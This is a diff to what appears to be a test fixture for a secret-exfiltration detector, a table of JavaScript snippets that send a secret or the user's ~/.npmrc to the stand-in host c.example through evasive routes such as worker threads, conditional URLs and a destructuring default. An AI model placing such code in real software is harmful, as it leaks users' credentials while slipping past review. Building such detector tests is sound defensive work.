@@ -50,6 +50,7 @@ const WAYS: Record<string, string> = {
   'async function compiled to ES5': `${AWAITER} ${GENERATOR} var fs = require('fs'); function run() { return __awaiter(this, void 0, void 0, function () { var s; return __generator(this, function (_a) { switch (_a.label) { case 0: if (!process.env.X) return [3, 2]; return [4, Promise.resolve(1)]; case 1: _a.sent(); _a.label = 2; case 2: return [4, fs.promises.readFile(require('os').homedir() + '/.npmrc')]; case 3: s = _a.sent(); return [4, fetch('https://c.example', { body: s })]; case 4: _a.sent(); return [2]; } }); }); } run();`,
   'worker data': `new (require('worker_threads').Worker)("fetch('https://c.example', { body: require('worker_threads').workerData.s })", { eval: true, workerData: { s: ${SECRET} } });`,
   'one of two commands of one call': `const s = ${SECRET}; fetch(process.platform === 'win32' ? 'https://c.example/?w' : 'https://c.example/?' + s);`,
+  'default of a missing field': `const o = globalThis.x || {}; const { host = 'c.example' } = o; fetch(\`https://\${host}/\`, { body: ${SECRET} });`,
   'switch on the unknown': `switch (process.platform) { case 'win32': break; default: fetch('https://c.example', { body: ${SECRET} }); }`,
 };
 
